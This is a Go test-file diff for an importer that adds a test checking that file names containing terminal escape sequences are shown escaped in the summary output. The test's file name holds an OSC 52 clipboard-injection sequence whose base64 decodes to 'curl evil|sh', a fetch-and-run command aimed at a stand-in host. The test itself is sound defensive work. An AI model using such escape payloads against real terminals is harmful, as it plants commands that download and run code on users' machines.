@@ -1,12 +1,14 @@
 package importer_test
 
 import (
+	"bytes"
 	"context"
 	"crypto/sha256"
 	"encoding/hex"
 	"encoding/json"
 	"net/http"
 	"net/http/httptest"
+	"os"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -71,6 +73,31 @@ func TestAttackYankNotOwned(t *testing.T) {
 		}
 		if got.Present != 0 || got.Yanked != 0 || len(got.Skipped) != 1 || !strings.Contains(got.Skipped[0].Reason, "not an Owner") {
 			t.Errorf("summary: %+v, want the project skipped as not owned", got)
+		}
+	})
+}
+
+// A file name in a tampered folder (or a source's page) carries terminal
+// escape sequences: the summary shows them escaped, never raw.
+func TestAttackSummaryEscapes(t *testing.T) {
+	storetest.Each(t, func(t *testing.T, st *store.Store) {
+		tg := newTarget(t, st)
+		dir := t.TempDir()
+		evil := "readme\x1b]52;c;Y3VybCBldmlsfHNo\a\x1b[2J.txt"
+		if err := os.WriteFile(filepath.Join(dir, evil), []byte("x"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		src, err := importer.OpenFolder(dir)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var out bytes.Buffer
+		tg.run(t, nil, src).Print(&out)
+		if strings.ContainsAny(out.String(), "\x1b\a") {
+			t.Errorf("the summary writes control characters from the source: %q", out.String())
+		}
+		if !strings.Contains(out.String(), `readme\x1b]52`) {
+			t.Errorf("the summary does not show the file's name escaped: %q", out.String())
 		}
 	})
 }
